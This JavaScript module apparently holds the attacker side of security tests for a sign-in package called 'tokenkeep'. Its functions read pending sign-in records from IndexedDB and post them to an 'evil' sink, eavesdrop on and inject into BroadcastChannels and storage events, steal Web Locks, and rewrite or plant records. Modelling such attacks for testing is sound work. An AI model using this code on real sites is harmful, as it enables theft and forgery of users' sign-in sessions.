// What any page of the origin can say on the channels that the package uses. Each function runs in a page and stands alone.

/** Listens and speaks on the channels of all sign-ins under way; what is heard goes to the attacker. */
export async function joinChannels(evil, { words }) {
  const settled = (request) =>
    new Promise((done, failed) => Object.assign(request, { onsuccess: () => done(request.result), onerror: failed }));
  const database = await settled(indexedDB.open("tokenkeep", 1));
  const store = database.transaction("transactions").objectStore("transactions");
  const [all, values] = [await settled(store.getAllKeys()), await settled(store.getAll())];
  database.close();
  const keys = all.filter((_, index) => values[index].record);
  await evil.post({ names: keys, records: values.map(({ record }) => record) });
  for (const key of keys) {
    const channel = new BroadcastChannel(`tokenkeep-${key}`);
    channel.addEventListener("message", ({ data }) => evil.post({ heard: data }));
    for (const word of words) channel.postMessage(word);
  }
  return keys.length;
}

/** Says everything on channels by other names, as storage events, and as what is stored. */
export function speakEverywhere(evil, { words }) {
  for (const name of ["tokenkeep", "tokenkeep-", "tokenkeep-silent", "tokenkeep-session", "signout"]) {
    const channel = new BroadcastChannel(name);
    channel.addEventListener("message", ({ data }) => evil.post({ heard: data }));
    for (const word of words) {
      channel.postMessage(word);
      const text = JSON.stringify(word) ?? "";
      localStorage.setItem(name, text);
      sessionStorage.setItem(`x-${name}`, text);
      dispatchEvent(new StorageEvent("storage", { key: name, newValue: text, storageArea: localStorage }));
      dispatchEvent(new MessageEvent("message", { data: word, origin: location.origin }));
    }
  }
}

/** Takes the lock of every page that is connected, holds it for a moment and lets it go. */
export async function stealLocks(evil) {
  const { held } = await navigator.locks.query();
  const names = held.map(({ name }) => name).filter((name) => name.startsWith("tokenkeep-"));
  await evil.post({ names });
  for (const name of names) await navigator.locks.request(name, { steal: true }, () => {});
  return names.length;
}

/** Rewrites the record of every sign-in under way. */
export async function rewriteRecords(evil, changes) {
  const settled = (request) =>
    new Promise((done, failed) => Object.assign(request, { onsuccess: () => done(request.result), onerror: failed }));
  const database = await settled(indexedDB.open("tokenkeep", 1));
  const store = database.transaction("transactions", "readwrite").objectStore("transactions");
  const [keys, values] = [await settled(store.getAllKeys()), await settled(store.getAll())];
  // One that was used has a mark in its place.
  const pending = [...keys.entries()].filter(([index]) => values[index].record);
  for (const [index, key] of pending) {
    const record = JSON.stringify({ ...JSON.parse(values[index].record), ...changes });
    await settled(store.put({ ...values[index], record }, key));
  }
  database.close();
  return pending.length;
}

/** Puts these `[key, value]` into the store. */
export async function plantRecords(evil, records) {
  const settled = (request) =>
    new Promise((done, failed) => Object.assign(request, { onsuccess: () => done(request.result), onerror: failed }));
  const opening = indexedDB.open("tokenkeep", 1);
  opening.onupgradeneeded = () => opening.result.createObjectStore("transactions");
  const database = await settled(opening);
  const store = database.transaction("transactions", "readwrite").objectStore("transactions");
  for (const [key, value] of records) await settled(store.put(value, key));
  database.close();
}
